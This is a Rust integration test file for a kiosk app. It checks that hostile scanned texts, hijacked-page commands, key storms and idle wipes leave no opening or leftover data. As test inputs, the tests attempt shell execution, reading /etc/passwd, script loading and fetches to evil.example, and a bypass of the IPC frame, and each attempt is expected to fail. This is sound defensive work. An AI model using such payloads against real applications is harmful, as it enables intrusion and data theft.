//! Rows 5, 22 and 23 at the built window: what visitors scan, what they leave, what they press.

use std::{
    path::{Path, PathBuf},
    time::{Duration, Instant},
};

use anyhow::{Context as _, Result, ensure};
use serde_json::{Value, json};
use tokio::process::Command;
use town::{
    Album, Cast, Centre, Display, Driver, Needles, Pockets, Running, Stage, Station, Visitor,
    Window, binary, files_below, wait_until,
};

use crate::seed;

const SOON: Duration = Duration::from_secs(30);
const IDLE_WIPE_MS: u64 = 6_000;

/// A town, a kiosk and its window.
struct Scene {
    cast: Cast,
    pockets: Pockets,
    stage: Stage,
    station: Station,
    logs: PathBuf,
    display: Display,
    window: Option<Window>,
    _driver: Driver,
    _centre: Centre,
    folder: tempfile::TempDir,
}

async fn scene(words: &[&str]) -> Result<Scene> {
    let folder = tempfile::tempdir()?;
    let logs = folder.path().join("logs");
    let cast = Cast::draw(seed()).await?;
    let mut centre = Centre::found(&folder.path().join("centre"), &cast, None, &logs).await?;
    centre.open().await?;
    let station = Station::new(&folder.path().join("kiosk"));
    station.enrol(&centre).await?;
    let stage = Stage::new(&folder.path().join("stage"))?;
    let display = Display::start(1080, 1920, &logs).await?;
    let driver = Driver::start(display.name(), &logs).await?;
    let data = station.data().to_string_lossy().into_owned();
    let camera = format!("pictures:{}", stage.folder().display());
    let mut arguments: Vec<String> = ["--data", &data, "--camera", &camera]
        .map(str::to_owned)
        .into();
    arguments.extend(words.iter().map(|word| (*word).to_owned()));
    let window = driver
        .open(&binary("residence-kiosk")?, &arguments, &data)
        .await?;
    window.wait_for_screen("welcome", SOON).await?;
    window
        .wait_for_attribute("strip", "data-online", "true", SOON)
        .await?;
    Ok(Scene {
        pockets: Pockets::filled(&cast, &centre)?,
        cast,
        stage,
        station,
        logs,
        display,
        window: Some(window),
        _driver: driver,
        _centre: centre,
        folder,
    })
}

impl Scene {
    fn window(&self) -> &Window {
        self.window.as_ref().expect("closed at the end only")
    }

    async fn close(mut self) -> Result<()> {
        let window = self.window.take().context("closed once")?;
        window.close().await
    }
}

/// What of a page could act or lead away.
const MAKE: &str = "const count = (what) => document.querySelectorAll(what).length;
    return ['script', 'iframe', 'a', 'object', 'embed', 'form', 'base', 'link', 'style', 'meta',
        'video', 'audio', 'input', '[onerror]', '[onload]', '[srcdoc]'].map(count);";
/// Notes what the policy of the page had to stop.
const WATCH: &str = "window.stopped = [];
    document.addEventListener('securitypolicyviolation', (e) => window.stopped.push(e.violatedDirective));";

/// What must be the same before and after a hostile text.
async fn state_of(window: &Window) -> Result<Vec<Value>> {
    // A command and its answer are a round trip: whatever came before it has been drawn by then.
    invoke(window, "current_screen", &json!({})).await?;
    let address = json!(window.address().await?);
    let (make, title) = (
        window.ask(MAKE).await?,
        window.ask("return document.title").await?,
    );
    Ok(vec![
        address,
        make,
        title,
        window.ask("return window.stopped").await?,
    ])
}

async fn stand_at_the_house_scan(window: &Window) -> Result<Vec<Value>> {
    window.touch("begin-declare").await?;
    window.wait_for_screen("scan:house", SOON).await?;
    window.ask(WATCH).await?;
    state_of(window).await
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_texts_are_only_texts() -> Result<()> {
    let mut scene = scene(&[]).await?;
    let file: Value = serde_json::from_str(include_str!("../golden/hostile-texts.json"))?;
    let cases = file["texts"].as_array().context("a list of texts")?;
    let texts: Vec<&str> = cases
        .iter()
        .filter_map(|case| case["text"].as_str())
        .collect();
    ensure!(texts.len() >= 60, "{} texts", texts.len());
    let window = scene.window.take().context("open")?;
    let before = stand_at_the_house_scan(&window).await?;
    ensure!(
        before.last() == Some(&json!([])),
        "nothing had to be stopped yet"
    );
    for (place, text) in texts.iter().enumerate() {
        window.scan_by_hand(text).await?;
        window.wait_for_screen("scan:house", SOON).await?;
        ensure!(
            state_of(&window).await? == before,
            "text {place} by hand changed the page"
        );
    }
    // After all that the true code is taken.
    window.scan_by_hand(&scene.pockets.house).await?;
    window.wait_for_screen("scan:resident", SOON).await?;
    // Some of them before the camera, each as the first of its visit, so that the answer shows.
    for (place, text) in texts.iter().enumerate().step_by(10) {
        invoke(&window, "end_visit", &json!({})).await.ok();
        window.wait_for_screen("welcome", SOON).await?;
        let before = stand_at_the_house_scan(&window).await?;
        scene.stage.show(text)?;
        window.find("refusal").await?;
        ensure!(
            state_of(&window).await? == before,
            "text {place} by camera changed the page"
        );
        scene.stage.clear()?;
    }
    window.close().await
}

/// Asks for a command as a script in the page could, and returns what comes back.
async fn invoke(window: &Window, command: &str, carried: &Value) -> Result<String> {
    let script = format!(
        "return window.__TAURI_INTERNALS__.invoke({}, {carried})
            .then((answer) => 'yes ' + JSON.stringify(answer), (error) => 'no ' + JSON.stringify(error))",
        json!(command)
    );
    Ok(window
        .ask(&script)
        .await?
        .as_str()
        .unwrap_or_default()
        .to_owned())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_that_was_taken_over_gets_nowhere() -> Result<()> {
    let scene = scene(&[]).await?;
    let window = scene.window();
    ensure!(
        invoke(window, "current_screen", &json!({}))
            .await?
            .starts_with("yes")
    );
    for (command, carried) in [
        ("refused", json!({})),
        ("plugin:shell|execute", json!({ "program": "sh" })),
        ("plugin:window|close", json!({ "label": "main" })),
        (
            "plugin:webview|create_webview_window",
            json!({ "options": { "label": "x" } }),
        ),
        (
            "plugin:event|emit",
            json!({ "event": "screen", "payload": {} }),
        ),
        ("plugin:fs|read_file", json!({ "path": "/etc/passwd" })),
        ("accept_code", json!({ "text": "x".repeat(2_001) })),
        ("accept_code", json!({ "text": { "a": 1 } })),
        ("accept_code", json!({ "text": "x", "more": 1 })),
        ("begin_visit", json!({})),
        ("choose_text_size", json!({ "size": -1 })),
    ] {
        let answer = invoke(window, command, &carried).await?;
        ensure!(answer.starts_with("no"), "{command}: {answer}");
    }
    // Past the checking frame: straight to the door of the commands, without its encryption.
    let past = window
        .ask(
            "return fetch('ipc://localhost/current_screen', { method: 'POST', body: '{}', headers:
                { 'Tauri-Callback': '1', 'Tauri-Error': '2', 'Content-Type': 'application/json' } })
                .then((r) => r.text().then((t) => r.status + t), (e) => 'stopped')",
        )
        .await?;
    let past = past.as_str().unwrap_or_default();
    ensure!(!past.contains("screen"), "past the frame: {past}");
    // Out of the page: other addresses, other windows, the network.
    let address = window.address().await?;
    for way in [
        "location.href = 'https://evil.example/'; return 1",
        "location.href = 'file:///etc/passwd'; return 1",
        "location.replace('data:text/html,x'); return 1",
        "return window.open('https://evil.example/') === null",
        "return window.open('about:blank') === null",
        "const a = document.createElement('a'); a.href = 'https://evil.example/'; a.target = '_blank';
            document.body.append(a); a.click(); a.remove(); return 1",
    ] {
        drop(window.ask(way).await?);
    }
    for request in [
        "fetch('https://evil.example/')",
        "fetch('http://127.0.0.1:1/')",
        "new Promise((yes, no) => { const s = document.createElement('script');
            s.src = 'https://evil.example/x.js'; s.onload = yes; s.onerror = no; document.head.append(s); })",
        "Promise.resolve().then(() => eval('1'))",
        "Promise.resolve().then(() => new Function('return 1')())",
    ] {
        let script = format!("return {request}.then(() => 'yes', () => 'no')");
        ensure!(window.ask(&script).await? == "no", "{request} is allowed");
    }
    ensure!(window.address().await? == address, "the page was left");
    window.wait_for_screen("welcome", SOON).await?;
    scene.close().await
}

#[tokio::test(flavor = "multi_thread")]
async fn the_next_visitor_finds_nothing() -> Result<()> {
    let wipe = IDLE_WIPE_MS.to_string();
    let mut scene = scene(&["--idle-warning-ms", "3000", "--idle-wipe-ms", &wipe]).await?;
    let people = scene.cast.town.people.iter();
    let texts: Vec<String> = people
        .flat_map(|person| [person.name.clone(), person.number.clone()])
        .filter(|text| text.len() > 8)
        .chain([scene.pockets.resident.clone()])
        .collect();
    let needles = Needles::new(texts.iter().map(String::as_str))?;
    let number = scene.pockets.number.clone();
    let window = scene.window.take().context("open")?;
    let mut album = Album::open(&scene.folder.path().join("pictures"))?;
    let mut visitor = Visitor {
        window: &window,
        album: &mut album,
        stage: &mut scene.stage,
        cast: &scene.cast,
        pockets: &scene.pockets,
    };
    visitor.come_to_the_door(false).await?;
    // Somebody leaves in the middle; the countdown runs out.
    let left = Instant::now();
    window.wait_for_screen("welcome", SOON).await?;
    let took = left.elapsed();
    println!("wiped {took:?} after the last touch, at {IDLE_WIPE_MS} ms");
    ensure!(
        took < Duration::from_millis(IDLE_WIPE_MS + 1_000),
        "the wipe took {took:?}"
    );
    let shown = "return document.documentElement.outerHTML + document.title + location.href
        + [...document.querySelectorAll('input, textarea')].map((field) => field.value).join()";
    for round in 0..3 {
        let page = window.ask(shown).await?;
        let page = page.as_str().context("the page is read")?;
        ensure!(
            page.len() > 200 && needles.find(page.as_bytes()).is_none(),
            "shown in {round}"
        );
        let view = invoke(&window, "current_screen", &json!({})).await?;
        ensure!(
            view.contains("welcome") && needles.find(view.as_bytes()).is_none(),
            "known: {round}"
        );
        ensure!(!view.contains(&number), "the number is still in the view");
        window.go_back().await.ok();
        window.wait_for_screen("welcome", SOON).await?;
    }
    ensure!(
        window.ask("return history.length").await?.as_u64() <= Some(2),
        "a history"
    );
    let pids = window.pids();
    window.close().await?;
    ensure!(!pids.is_empty(), "the kiosk ran");
    for file in files_below(&[scene.station.data(), &scene.logs])? {
        let found = needles.find(&std::fs::read(&file)?);
        ensure!(found.is_none(), "{} holds text {found:?}", file.display());
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn no_key_leads_out() -> Result<()> {
    let scene = scene(&[]).await?;
    let window = scene.window();
    let address = window.address().await?;
    let windows = windows_on(scene.display.name()).await?;
    ensure!(windows == 1, "{windows} windows before");
    let mut keys: Vec<String> = (1..=12).map(|number| format!("F{number}")).collect();
    keys.extend(
        [
            "p", "r", "u", "n", "t", "w", "q", "o", "s", "l", "d", "h", "j", "f", "i", "c", "v",
            "plus", "minus", "0", "Left", "Right", "Home", "Tab", "Escape", "Delete", "space",
            "Print", "Menu",
        ]
        .map(str::to_owned),
    );
    let held = [
        "",
        "ctrl+",
        "alt+",
        "super+",
        "shift+",
        "ctrl+shift+",
        "ctrl+alt+",
        "super+shift+",
    ];
    let mut pressed = 0;
    for modifiers in held {
        // One call for each set of modifiers: a storm, not a procession.
        let storm: Vec<String> = keys.iter().map(|key| format!("{modifiers}{key}")).collect();
        let mut command = Command::new("xdotool");
        command
            .env("DISPLAY", scene.display.name())
            .args(["key", "--delay", "2"])
            .args(&storm);
        ensure!(
            command
                .status()
                .await
                .context("xdotool presses keys")?
                .success()
        );
        pressed += storm.len();
    }
    ensure!(window.address().await? == address, "a key led away");
    let scale = window
        .ask("return [visualViewport.scale, document.querySelectorAll('iframe').length]")
        .await?;
    ensure!(scale == json!([1, 1]), "zoomed or framed: {scale}");
    ensure!(
        windows_on(scene.display.name()).await? == 1,
        "a window was opened or closed"
    );
    // A press of Return or Space may have begun a visit; the way back is the kiosk's own.
    drop(invoke(window, "end_visit", &json!({})).await?);
    window.wait_for_screen("welcome", SOON).await?;
    println!("{pressed} keys: same window, same page");
    scene.close().await
}

/// Counts the windows of the kiosk that are on the display.
async fn windows_on(display: &str) -> Result<usize> {
    let mut command = Command::new("xdotool");
    command.env("DISPLAY", display);
    command.args(["search", "--onlyvisible", "--class", "residence-kiosk"]);
    let output = command.output().await.context("xdotool looks")?;
    Ok(String::from_utf8(output.stdout)?.lines().count())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_kiosk_without_a_driver_keeps_no_files_of_its_page() -> Result<()> {
    let folder = tempfile::tempdir()?;
    let (home, logs, data) = (
        folder.path().join("home"),
        folder.path().join("logs"),
        folder.path().join("kiosk"),
    );
    std::fs::create_dir_all(&home)?;
    let display = Display::start(1080, 1920, &logs).await?;
    let mut command = Command::new(binary("residence-kiosk")?);
    command
        .arg("--data")
        .arg(&data)
        .env("HOME", &home)
        .env("DISPLAY", display.name());
    for name in [
        "XDG_DATA_HOME",
        "XDG_CACHE_HOME",
        "XDG_CONFIG_HOME",
        "XDG_STATE_HOME",
    ] {
        command.env_remove(name);
    }
    command
        .env_remove("WAYLAND_DISPLAY")
        .env("GDK_BACKEND", "x11")
        .env("NO_AT_BRIDGE", "1");
    let kiosk = Running::start("kiosk", command, &logs)?;
    let shown = display.name().to_owned();
    wait_until("the window is there", SOON, || async {
        windows_on(&shown).await.is_ok_and(|windows| windows == 1)
    })
    .await?;
    // Long enough for a web view to write what it means to write.
    tokio::time::sleep(Duration::from_secs(5)).await;
    kiosk.cut_power().await?;
    let kept = files_below(&[home.as_path()])?;
    let of_pages = |file: &Path| {
        // Drawing libraries keep compiled shaders and the list of fonts: nothing of a page.
        let text = file.to_string_lossy();
        let others = ["mesa_shader_cache", "fontconfig", "dconf", ".dbus"];
        !others.iter().any(|other| text.contains(other))
    };
    let kept: Vec<&PathBuf> = kept.iter().filter(|file| of_pages(file)).collect();
    ensure!(kept.is_empty(), "the web view kept {kept:?}");
    ensure!(!data.join("web-view").exists(), "a folder of the web view");
    Ok(())
}
